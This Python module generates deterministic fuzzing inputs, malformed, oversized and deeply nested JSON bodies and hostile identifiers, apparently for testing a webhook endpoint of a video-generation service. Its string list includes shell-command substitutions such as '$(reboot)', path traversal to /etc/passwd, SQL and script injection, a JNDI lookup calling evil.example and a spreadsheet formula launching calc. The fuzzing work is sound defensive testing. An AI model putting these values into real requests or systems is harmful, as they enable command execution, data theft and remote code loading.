"""
What strangers may send as JSON, and the names they may give things: generated, the same in every run.

`hostile_bodies` are small, for runs of thousands; `large_bodies` reach for the size limit. Some are documents, some are
not: whoever uses them expects a 2xx or a 4xx, and no more.
"""

import json
import random
from collections.abc import Iterator
from itertools import chain

LINK = "https://storage.kie.ai/v/1.mp4"
FLAT = {"taskId": "t1", "status": 1, "videoUrl": LINK, "errorMessage": None}
MARKET = {
    "code": 200,
    "msg": "Playground task completed successfully.",
    "data": {
        "taskId": "t1",
        "model": "bytedance/seedance",
        "state": "success",
        "param": '{"input":{"prompt":"p"},"callBackUrl":"https://hooks.example/webhooks/kie"}',
        "resultJson": json.dumps({"resultUrls": [LINK]}),
        "completeTime": 1755599644000,
        "failCode": None,
        "failMsg": None,
    },
}
SHAPES = (FLAT, MARKET)
DEPTHS = (2, 31, 62, 63, 64, 65, 66, 100, 331, 992, 1000, 5000, 20_000)
BOM = b"\xef\xbb\xbf"

TEXTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "a\r\nSet-Cookie: a=b",
    "a\nERROR forged line",
    "\x1b[2J\x1b]0;owned\x07",
    "\x9b31m",
    "\x7f",
    "\ud800",
    "a\udfffb",
    "\udc00\ud800",
    "\ufeff",
    "\ufffe\uffff",
    "\u2028\u2029",
    "\u202egpj.exe",
    "\u2066\u200b\u200d",
    "Z\u0351\u036b" * 40,
    "😀" * 50,
    "x" * 4096,
    "é" * 2048,
    "../../../../etc/passwd",
    "..\\..\\windows",
    ".",
    "..",
    "/",
    "//evil.example/a",
    "%2e%2e%2f",
    "%00",
    "%0d%0aX: y",
    "con",
    "aux.mp4",
    "-rf",
    "--help",
    "~root",
    "$(reboot)",
    "`id`",
    "a;b|c&d",
    "'; DROP TABLE tasks; --",
    '" OR ""="',
    "%' OR 1=1",
    "_%",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "</textarea>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "{0.__class__}",
    "%s%n%(x)s",
    "{}",
    "=cmd|'/c calc'!A1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "null",
    "NaN",
    "true",
    "0",
    "1e5",
    "__proto__",
    "constructor",
    "\u0130\u0131\u017f",
    "\uff0e\uff0e\uff0f",
    "nul\x00.mp4",
]  # fmt: skip

# Written out, since no encoder would.
_LITERALS = [
    "NaN", "-NaN", "Infinity", "-Infinity", "nan", "1e9999", "-1e9999", "1e-9999", "1E400", "0x10", "01", "-01", "1.",
    ".5", "+1", "-", "-0", "-0.0", "1e", "1e+", "1_000", "9007199254740993", "9" * 19, "-" + "9" * 19, "9" * 4300,
    "9" * 4301, "-" + "9" * 4300, "9" * 20_000, "1." + "9" * 5000, "1e" + "9" * 500, "0." + "0" * 4000 + "1", "True",
    "None", "nul", "tru", "undefined", "'a'", "a", '"', '"a', '"\\"', '"\\x41"', '"\\u12"', '"\\ud800"',
    '"\\udc00\\ud800"', '"\\u0000"', '"\t"', '"\n"', '"\\', '"\\ud83d\\u"', "{", "}", "[", "]", "[,]", "[1,]",
    "[1 2]", "{,}", '{"a"}', '{"a":}', '{"a":1,}', "{a:1}", "{'a':1}", '{"a":1 "b":2}', "{1:2}", "[]]", "{}}", "[}",
    "{]", "[1]//", "/* */[]", "[]#", "[] []", "{}{}", "[]\x00", "\x00[]", "\x0c[]", "\u00a0[]", "\u2028[]", "", " ",
    "\r\n\t ", "null", "true", "false", "0", "[]", "{}", '""', "[null]", '{"":null}', '{"":{"":{"":0}}}',
]  # fmt: skip


def hostile_bodies() -> Iterator[bytes]:
    """More than a thousand bodies, each once; the longest of them have some 100,000 bytes."""
    seen: set[bytes] = set()
    for body in chain(_documents(), _literals(), _nested(), _twice(), _encoded(), _embedded(), _cut(), _flipped()):
        if body not in seen:
            seen.add(body)
            yield body


def hostile_ids() -> list[str]:
    """Names as nobody should give them, each once; JSON can write all of them."""
    mixed = random.Random(20)
    parts = [text for text in TEXTS if len(text) < 60]
    long = [
        "../" * 400,
        "%2F" * 300,
        "\x00" * 300,
        "\ud800" * 600,
        "\u202e" * 300,
        "a" * 255,
        "a" * 256,
        "a" * 512,
        "a" * 513,
    ]
    return list(dict.fromkeys([*TEXTS, *long, *("".join(mixed.sample(parts, 3)) for _ in range(100))]))


def large_bodies(size: int = 1 << 20) -> Iterator[tuple[str, bytes]]:
    """Bodies of nearly *size* bytes that are dear to read, by name."""
    yield "lists", _filled(b'{"taskId":"t1","x":[', b"[],", b"0]}", size)
    yield "objects", _filled(b'{"taskId":"t1","x":[', b"{},", b"0]}", size)
    yield "zeros", _filled(b'{"taskId":"t1","x":[', b"0,", b"0]}", size)
    yield "floats", _filled(b'{"taskId":"t1","x":[', b"1.7976931348623157e308,", b"0]}", size)
    yield "integers", _filled(b'{"taskId":"t1","x":[', b"9" * 4300 + b",", b"0]}", size)
    yield "integers_too_long", _filled(b'{"taskId":"t1","x":[0,', b"9" * 4301 + b",", b"0]}", size)
    yield "one_integer", b"9" * (size - 8)
    yield "one_float", b"0." + b"1" * (size - 8)
    yield "one_exponent", b"1e" + b"1" * (size - 8)
    yield "one_text", _filled(b'{"taskId":"t1","x":"', b"x", b'"}', size)
    yield "one_task_id", _filled(b'{"status":0,"taskId":"', b"x", b'"}', size)
    yield "escapes", _filled(b'{"taskId":"t1","x":"', b"\\u0000", b'"}', size)
    yield "surrogates", _filled(b'{"taskId":"t1","x":"', b"\\ud800", b'"}', size)
    yield "backslashes", _filled(b'{"taskId":"t1","x":"', b"\\\\", b'"}', size)
    yield "quotes", _filled(b'{"taskId":"t1","x":"', b'\\"', b'"}', size)
    yield "brackets_in_text", _filled(b'{"taskId":"t1","x":"', b"[", b'"}', size)
    yield "brackets_between_texts", _filled(b'{"taskId":"t1","x":["",', b'"[",', b'""]}', size)
    yield "brackets_unclosed", b"[" * size
    yield "braces_unclosed", _filled(b"", b'{"":', b"", size)
    yield "text_unclosed", b'"' + b"[" * (size - 1)
    yield "levels", _filled(b'{"taskId":"t1","x":[', b"[" * 60 + b"]" * 60 + b",", b"0]}", size)
    yield "keys", b'{"taskId":"t1"%s}' % b"".join(b',"%05d":0' % n for n in range((size - 20) // 10))
    yield "same_key", _filled(b'{"taskId":"t1"', b',"a":0', b"}", size)
    yield "same_task_id", _filled(b'{"taskId":"t0"', b',"taskId":"t1"', b"}", size)
    yield "long_keys", b'{"taskId":"t1"%s}' % b"".join(b',"%s%03d":0' % (b"k" * 4000, n) for n in range(size // 4010))
    yield "spaces", b" " * (size - 2) + b"{}"
    yield "emoji", _filled(b'{"taskId":"t1","x":"', "😀".encode(), b'"}', size)
    yield "links", _filled(b'{"taskId":"t1","status":1,"x":["', b'https://a.example/v?s=1","', b'"]}', size)
    yield "slashes", _filled(b'{"taskId":"t1","x":"', b"//", b'"}', size)
    yield "users", _filled(b'{"taskId":"t1","x":"', b"//a@", b'"}', size)
    yield "percents", _filled(b'{"taskId":"t1","x":"', b"%25", b'"}', size)
    yield "escaped_escapes", _filled(b'{"taskId":"t1","x":"', b"\\\\u005cu005cu0025", b'"}', size)
    yield "minted", _filled(b'{"taskId":"t1","x":"', b"rkcb_", b'"}', size)
    yield "many_results", _results(size)
    yield "in_itself", _in_itself(size)


def nested(depth: int, opening: str = "[", inner: str = "0") -> bytes:
    """A whole document with *depth* levels of lists or objects."""
    step, end = ("[", "]") if opening == "[" else ('{"a":', "}")
    return (step * depth + inner + end * depth).encode()


def _documents() -> Iterator[bytes]:
    """Every hostile text at every place of what a provider documents, as value and as name."""
    for shape in SHAPES:
        yield json.dumps(shape).encode()
        for text in TEXTS:
            for name in shape:
                yield json.dumps({**shape, name: text}).encode()
            yield json.dumps({**shape, text: text}).encode()
    for text in TEXTS:
        yield json.dumps({**MARKET, "data": {**MARKET["data"], "taskId": text}}).encode()  # type: ignore[dict-item]
        yield json.dumps({**FLAT, "videoUrl": f"https://storage.kie.ai/{text}"}).encode()


def _literals() -> Iterator[bytes]:
    for literal in _LITERALS:
        text = literal.encode("utf-8", "surrogatepass")
        yield text
        yield b"[%s]" % text
        yield b'{"taskId":"t1","status":%s}' % text
        yield b'{"taskId":%s,"status":1}' % text


def _nested() -> Iterator[bytes]:
    for depth in DEPTHS:
        for opening in "[{":
            whole = nested(depth, opening)
            yield whole
            yield b'{"taskId":"t1","status":0,"x":%s}' % whole
            yield b'{"x":%s,"taskId":"t1","status":0}' % whole
            yield json.dumps({**FLAT, "x": whole.decode()}).encode()
            yield whole[: len(whole) // 2]
        yield b'[{"a":' * depth + b"0" + b"}]" * depth


def _twice() -> Iterator[bytes]:
    """Names that stand twice, whichever of them is believed."""
    for name, first, second in (
        ("taskId", '"t1"', '"t2"'),
        ("taskId", "null", '"t1"'),
        ("status", "1", "2"),
        ("videoUrl", f'"{LINK}"', '"https://evil.example/x.mp4"'),
        ("data", '{"taskId":"t1"}', '{"taskId":"t2","state":"success"}'),
        ("code", "200", "500"),
    ):
        pair = f'"{name}":{first},"{name}":{second}'
        escaped = f'"{name}":{first},"\\u{ord(name[0]):04x}{name[1:]}":{second}'
        for both in (pair, escaped):
            yield f"{{{both}}}".encode()
            yield f'{{{both},"status":0}}'.encode()
            yield f'{{"taskId":"t1",{both},"status":1}}'.encode()
            yield f'{{"data":{{"taskId":"t1","state":"success",{both}}}}}'.encode()


def _encoded() -> Iterator[bytes]:
    """The right text in the wrong bytes."""
    for shape in SHAPES:
        text = json.dumps({**shape, "msg": "完成 é"}, ensure_ascii=False)
        for encoding in (
            "utf-8-sig",
            "utf-16",
            "utf-16-le",
            "utf-16-be",
            "utf-32",
            "gbk",
            "gb18030",
            "big5",
            "shift_jis",
            "utf-7",
        ):
            yield text.encode(encoding, "replace")
        plain = text.encode()
        yield BOM + plain
        yield BOM + BOM + plain
        yield BOM[:2] + plain
        yield b" " + BOM + plain
        yield plain + BOM
        for bad in (
            b"\xff",
            b"\xc0\xaf",
            b"\xed\xa0\x80",
            b"\xf4\x90\x80\x80",
            b"\x80",
            b"\xe5\xae",
            b"\xf8\x88\x80\x80\x80",
            b"\x00",
        ):
            yield plain.replace(b"t1", b"t1" + bad)
            yield plain + bad
            yield bad + plain
    yield b"taskId=t1&status=1&videoUrl=https%3A%2F%2Fstorage.kie.ai%2Fv%2F1.mp4"
    yield b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b 'c'>]><a>&b;</a>"
    yield b"--x\r\nContent-Disposition: form-data; name=taskId\r\n\r\nt1\r\n--x--\r\n"
    yield b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03\xab\x56\x00\x00"
    yield b"taskId: t1\nstatus: 1\n"


def _embedded() -> Iterator[bytes]:
    """JSON in a string, as KIE nests its results, and what is none."""
    inner = [
        *_LITERALS,
        *(nested(depth).decode() for depth in DEPTHS),
        *(json.dumps({"resultUrls": [t]}) for t in TEXTS),
    ]
    for text in inner:
        for name in ("resultJson", "param"):
            yield json.dumps({**MARKET, "data": {**MARKET["data"], name: text}}).encode()  # type: ignore[dict-item]


def _cut() -> Iterator[bytes]:
    """Every beginning of what a provider documents, and every seventh end."""
    for shape in SHAPES:
        whole = json.dumps(shape).encode()
        yield from (whole[:end] for end in range(len(whole)))
        yield from (whole[start:] for start in range(1, len(whole), 7))


def _flipped() -> Iterator[bytes]:
    """What a provider documents, with a few bytes changed, doubled or gone."""
    dice = random.Random(35)
    for shape in SHAPES:
        whole = json.dumps(shape).encode()
        for _ in range(200):
            body = bytearray(whole)
            for _ in range(dice.randint(1, 4)):
                at = dice.randrange(len(body))
                body[at : at + 1] = dice.choice(
                    [b"", body[at : at + 1] * 2, bytes((dice.randrange(256),)), b'"', b"\\", b"[", b"}"]
                )
            yield bytes(body)


def _filled(head: bytes, piece: bytes, tail: bytes, size: int) -> bytes:
    return head + piece * ((size - len(head) - len(tail)) // len(piece)) + tail


def _results(size: int) -> bytes:
    """A success with as many links as fit."""
    one = "https://storage.kie.ai/v/%06d.mp4"
    urls = [one % number for number in range((size - 1000) // (len(one) + 8))]
    return json.dumps({**MARKET, "data": {**MARKET["data"], "resultJson": json.dumps({"resultUrls": urls})}}).encode()  # type: ignore[dict-item]


def _in_itself(size: int) -> bytes:
    """JSON in a string in JSON in a string, until it is full: each level doubles the backslashes."""
    body = json.dumps(FLAT)
    while True:
        more = json.dumps({**FLAT, "param": body})
        if len(more) > size:
            return body.encode()
        body = more
